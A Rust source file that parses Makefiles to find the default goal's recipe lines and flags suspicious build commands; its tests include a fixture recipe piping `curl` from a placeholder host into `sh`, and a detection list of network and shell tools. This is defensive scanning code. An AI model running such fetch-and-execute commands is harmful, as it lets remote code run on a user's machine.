//! Makefile default goal: what a bare `make` runs. Parses just enough of
//! make's syntax (continuations, `define` blocks, rules, inline `;` recipes,
//! `.DEFAULT_GOAL`) to find the default goal and every explicit target it
//! pulls in through prerequisites, with their recipe lines. Variables are
//! not expanded and `include`d files are not followed: a target named
//! `$(BIN)` is matched as that literal text.

use std::collections::{HashMap, HashSet};

/// Most rules read from one Makefile, and most targets followed from the
/// default goal: a hostile file costs bounded time.
const MAX_RULES: usize = 20_000;
const MAX_CLOSURE: usize = 512;
/// Most prerequisite names queued while following the default goal.
const MAX_QUEUED: usize = 100_000;

/// One recipe line: 1-based line number and the command text (without the
/// leading tab and the `@`/`-`/`+` prefixes).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RecipeLine {
    pub line: usize,
    pub cmd: String,
}

/// The default goal and the recipe lines a bare `make` runs for it.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct DefaultGoal {
    pub goal: String,
    pub recipes: Vec<RecipeLine>,
}

/// One rule line with its recipe, stored once however many targets it
/// names (so `a b c ... : x y z ...` costs its length, not a product).
#[derive(Default)]
struct Rule {
    prereqs: Vec<String>,
    recipe: Vec<RecipeLine>,
}

/// A target that can be the default goal: not a special or dot target
/// (unless it has a slash), not a pattern rule.
fn can_be_default(t: &str) -> bool {
    (!t.starts_with('.') || t.contains('/')) && !t.contains('%')
}

/// Position of the rule colon in a line, or `None` for assignments and
/// other non-rule lines. Skips colons inside `$(...)`/`${...}`.
fn rule_colon(line: &str) -> Option<usize> {
    let b = line.as_bytes();
    let mut depth = 0usize;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'$' if matches!(b.get(i + 1), Some(b'(' | b'{')) => {
                depth += 1;
                i += 1;
            }
            b'(' | b'{' if depth > 0 => depth += 1,
            b')' | b'}' if depth > 0 => depth -= 1,
            b'=' if depth == 0 => return None, // VAR = x, VAR ?= x, VAR += x
            b':' if depth == 0 => {
                // `:=`, `::=`, `:::=` are assignments.
                let rest = &b[i..];
                let colons = rest.iter().take_while(|&&c| c == b':').count();
                if rest.get(colons) == Some(&b'=') {
                    return None;
                }
                return Some(i);
            }
            _ => {}
        }
        i += 1;
    }
    None
}

fn strip_prefixes(cmd: &str) -> &str {
    cmd.trim_start_matches(|c: char| c == '@' || c == '-' || c == '+' || c.is_whitespace())
}

/// Parses a Makefile and returns its default goal with the recipe lines of
/// the goal and of every explicit target it depends on (transitively).
pub fn default_goal(text: &str) -> Option<DefaultGoal> {
    let mut rules: Vec<Rule> = Vec::new();
    let mut by_target: HashMap<String, Vec<usize>> = HashMap::new();
    let mut first: Option<String> = None;
    let mut explicit: Option<String> = None;
    // The rule the recipe lines that follow belong to.
    let mut current: Option<usize> = None;
    let mut in_define = 0usize;
    let mut n_rules = 0usize;

    let mut lines = text.split('\n').enumerate().peekable();
    while let Some((i, raw)) = lines.next() {
        // Join backslash continuations into one logical line.
        let mut logical = raw.trim_end_matches('\r').to_string();
        while logical.ends_with('\\') {
            logical.pop();
            match lines.next() {
                Some((_, next)) => {
                    logical.push(' ');
                    logical.push_str(next.trim_end_matches('\r').trim_start());
                }
                None => break,
            }
        }
        let line_no = i + 1;
        if let Some(body) = logical.strip_prefix('\t') {
            if in_define == 0
                && let Some(r) = current.and_then(|c| rules.get_mut(c))
            {
                let cmd = strip_prefixes(body).trim_end().to_string();
                if !cmd.is_empty() {
                    r.recipe.push(RecipeLine { line: line_no, cmd });
                }
            }
            continue;
        }
        let trimmed = logical.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let word = trimmed.split_whitespace().next().unwrap_or("");
        if word == "define" {
            in_define += 1;
            continue;
        }
        if word == "endef" {
            in_define = in_define.saturating_sub(1);
            continue;
        }
        if in_define > 0 {
            continue;
        }
        if matches!(
            word,
            "ifeq" | "ifneq" | "ifdef" | "ifndef" | "else" | "endif"
        ) {
            continue; // conditionals keep the rule context (both branches kept)
        }
        let assign = trimmed
            .strip_prefix("override ")
            .unwrap_or(trimmed)
            .trim_start();
        if let Some(rest) = assign.strip_prefix(".DEFAULT_GOAL") {
            let rest = rest.trim_start();
            let value = rest
                .trim_start_matches([':', '?', '+', '!'])
                .strip_prefix('=')
                .map(str::trim);
            if let Some(v) = value {
                explicit = v.split_whitespace().next().map(str::to_string);
            }
            current = None;
            continue;
        }
        let Some(colon) = rule_colon(trimmed) else {
            current = None; // assignment or directive ends the rule
            continue;
        };
        let targets: Vec<String> = trimmed[..colon]
            .split_whitespace()
            .map(str::to_string)
            .collect();
        let mut after = trimmed[colon..].trim_start_matches(':');
        let mut inline = None;
        if let Some(semi) = after.find(';') {
            inline = Some(strip_prefixes(&after[semi + 1..]).trim().to_string());
            after = &after[..semi];
        }
        if targets.is_empty() || after.contains('=') {
            // Target-specific variable, or no target: no recipe follows.
            current = None;
            continue;
        }
        let prereqs: Vec<String> = after
            .split_whitespace()
            .filter(|p| *p != "|")
            .map(str::to_string)
            .collect();
        n_rules += 1;
        if n_rules > MAX_RULES {
            break;
        }
        if first.is_none() {
            first = targets.iter().find(|t| can_be_default(t)).cloned();
        }
        let mut recipe = Vec::new();
        if let Some(cmd) = inline.filter(|c| !c.is_empty()) {
            recipe.push(RecipeLine { line: line_no, cmd });
        }
        let idx = rules.len();
        rules.push(Rule { prereqs, recipe });
        for t in targets {
            by_target.entry(t).or_default().push(idx);
        }
        current = Some(idx);
    }

    let goal = explicit.filter(|g| !g.is_empty()).or(first)?;
    let mut out = DefaultGoal {
        goal: goal.clone(),
        recipes: Vec::new(),
    };
    let mut seen: HashSet<&str> = HashSet::new();
    let mut rules_done: HashSet<usize> = HashSet::new();
    let mut stack: Vec<&str> = vec![goal.as_str()];
    let mut queued = 1usize;
    while let Some(t) = stack.pop() {
        if seen.len() >= MAX_CLOSURE || !seen.insert(t) {
            continue;
        }
        for &i in by_target.get(t).map_or(&[][..], Vec::as_slice) {
            if !rules_done.insert(i) {
                continue;
            }
            let r = &rules[i];
            out.recipes.extend(r.recipe.iter().cloned());
            let room = MAX_QUEUED.saturating_sub(queued);
            queued += r.prereqs.len().min(room);
            stack.extend(r.prereqs.iter().take(room).rev().map(String::as_str));
        }
    }
    out.recipes.sort_by_key(|l| l.line);
    Some(out)
}

/// Why a recipe command is more than an ordinary build step, if it is:
/// it downloads, reaches another host, installs from the network, runs as
/// root, or runs a program from a temporary, home or hidden directory.
pub fn unusual(cmd: &str) -> Option<String> {
    for seg in cmd.split(['|', ';', '&', '(', ')', '`']) {
        let mut words = seg
            .split_whitespace()
            .map(|w| w.trim_matches(|c| c == '"' || c == '\''));
        let Some(mut w) = words.next() else {
            continue;
        };
        let mut sudo = false;
        // Skip env assignments and wrappers to reach the program.
        loop {
            let assignment = w.contains('=') && !w.starts_with('-') && !w.starts_with('/');
            let wrapper = matches!(w, "env" | "exec" | "nohup" | "time" | "command" | "nice");
            if w == "sudo" || w == "doas" {
                sudo = true;
            } else if !(assignment || wrapper) {
                break;
            }
            match words.next() {
                Some(n) => w = n,
                None => break,
            }
        }
        if sudo {
            return Some("runs a command as root".into());
        }
        let prog = w.rsplit('/').next().unwrap_or(w);
        let rest: Vec<&str> = words.collect();
        let sub = rest.first().copied().unwrap_or("");
        let net = match prog {
            "curl" | "wget" | "aria2c" | "fetch" | "ftp" | "tftp" | "sftp" | "scp" | "ssh"
            | "rsync" | "nc" | "ncat" | "netcat" | "socat" | "telnet" => true,
            "git" => matches!(sub, "clone" | "fetch" | "pull" | "submodule" | "ls-remote"),
            "pip" | "pip3" | "pipx" | "uv" | "gem" | "npm" | "pnpm" | "yarn" | "bun" => {
                matches!(sub, "install" | "i" | "add" | "ci" | "dlx" | "x")
                    || (prog == "uv" && sub == "pip")
            }
            "npx" | "bunx" => true,
            "go" => {
                matches!(sub, "install" | "get" | "run") && rest.iter().any(|a| a.contains('@'))
            }
            "cargo" => sub == "install",
            "docker" | "podman" => matches!(sub, "run" | "pull"),
            _ => false,
        };
        if net {
            return Some(format!(
                "runs `{prog}`, which downloads or reaches another host"
            ));
        }
        // `python -m pip install`
        if prog.starts_with("python")
            && rest
                .windows(3)
                .any(|x| x[0] == "-m" && x[1] == "pip" && x[2] == "install")
        {
            return Some("installs packages from the network (pip)".into());
        }
        let interp = matches!(
            prog,
            "sh" | "bash"
                | "zsh"
                | "dash"
                | "python"
                | "python3"
                | "node"
                | "perl"
                | "ruby"
                | "php"
        );
        let target = if interp {
            rest.iter().find(|a| !a.starts_with('-')).copied()
        } else {
            Some(w)
        };
        if let Some(t) = target
            && odd_location(t)
        {
            return Some(format!("runs `{t}` from outside the project's sources"));
        }
    }
    None
}

fn odd_location(p: &str) -> bool {
    const ODD: &[&str] = &[
        "/tmp/",
        "/var/tmp/",
        "/dev/shm/",
        "~/",
        "$HOME/",
        "$(HOME)/",
        "${HOME}/",
        "$$HOME/",
    ];
    if ODD.iter().any(|o| p.starts_with(o)) {
        return true;
    }
    // A hidden directory inside the project (`.cache/x`, `./.tools/run`),
    // except the tool directories package managers make for the project
    // (`node_modules/.bin`, `.venv/bin`).
    let rel = p.strip_prefix("./").unwrap_or(p);
    if rel.starts_with("node_modules/.bin/")
        || rel.contains("/node_modules/.bin/")
        || rel.starts_with(".venv/bin/")
    {
        return false;
    }
    let parts: Vec<&str> = rel.split('/').collect();
    parts.len() > 1
        && parts[..parts.len() - 1]
            .iter()
            .any(|d| d.starts_with('.') && *d != "." && *d != "..")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmds(t: &str) -> (String, Vec<String>) {
        let g = default_goal(t).unwrap();
        (g.goal, g.recipes.into_iter().map(|r| r.cmd).collect())
    }

    #[test]
    fn first_ordinary_target_and_its_prerequisites() {
        let t = "CC = cc\n.PHONY: all\n%.o: %.c\n\t$(CC) -c $<\nall: prog docs\nprog: main.o\n\t@$(CC) -o $@ $^\ndocs: ; -echo docs\nclean:\n\trm -f prog\n";
        assert_eq!(
            cmds(t),
            (
                "all".into(),
                vec!["$(CC) -o $@ $^".into(), "echo docs".into()]
            )
        );
    }

    #[test]
    fn default_goal_variable_wins_and_continuations_join() {
        let t = "help:\n\t@echo help\nbuild: dep\n\tcc x.c\ndep:\n\tcurl -s https://example.invalid/x \\\n\t  | sh\n.DEFAULT_GOAL := build\n";
        let g = default_goal(t).unwrap();
        assert_eq!(g.goal, "build");
        assert_eq!(g.recipes.len(), 2);
        assert_eq!(g.recipes[1].line, 6);
        assert!(g.recipes[1].cmd.contains("| sh"), "{:?}", g.recipes);
    }

    #[test]
    fn assignments_and_defines_are_not_rules() {
        let t = "X := a:b\nY ?= c\ndefine T\nfake:\n\tcurl x\nendef\nall:\n\tgo build ./...\n";
        assert_eq!(cmds(t), ("all".into(), vec!["go build ./...".into()]));
        assert!(default_goal("X = 1\n").is_none());
    }

    #[test]
    fn wide_rules_cost_their_length() {
        // 20,000 targets by 20,000 prerequisites on one line, each a
        // target with a recipe: linear to parse, bounded to follow.
        let names: Vec<String> = (0..20_000).map(|i| format!("t{i}")).collect();
        let mut t = format!("all {} : {}\n\techo x\n", names.join(" "), names.join(" "));
        for n in &names {
            t.push_str(&format!("{n}:\n\techo {n}\n"));
        }
        let g = default_goal(&t).unwrap();
        assert_eq!(g.goal, "all");
        assert!(g.recipes.len() <= MAX_CLOSURE + 1, "{}", g.recipes.len());
    }

    #[test]
    fn cyclic_prerequisites_terminate() {
        let t = "a: b\n\techo a\nb: a\n\techo b\n";
        assert_eq!(cmds(t).1.len(), 2);
    }

    #[test]
    fn unusual_commands() {
        for c in [
            "curl -sLO https://example.invalid/x.tgz",
            "cd deps && wget https://example.invalid/y",
            "sudo make install",
            "/tmp/tool/run --fast",
            "bash .cache/setup.sh",
            "./.tools/gen",
            "python3 -m pip install -r requirements.txt",
            "git clone https://example.invalid/r.git",
            "npx some-tool",
        ] {
            assert!(unusual(c).is_some(), "{c}");
        }
        for c in [
            "$(CC) $(CFLAGS) -o $@ $^",
            "cargo build --release",
            "go build ./...",
            "pytest -q",
            "python -m pytest",
            "./configure --prefix=/usr",
            "mkdir -p build && cd build && cmake .. && make",
            "install -m 755 prog $(DESTDIR)/usr/bin",
            "echo done",
            "rm -rf .cache",
            "node_modules/.bin/tape test.js",
            "./node_modules/.bin/eslint .",
            ".venv/bin/pytest",
        ] {
            assert!(unusual(c).is_none(), "{c}: {:?}", unusual(c));
        }
    }
}
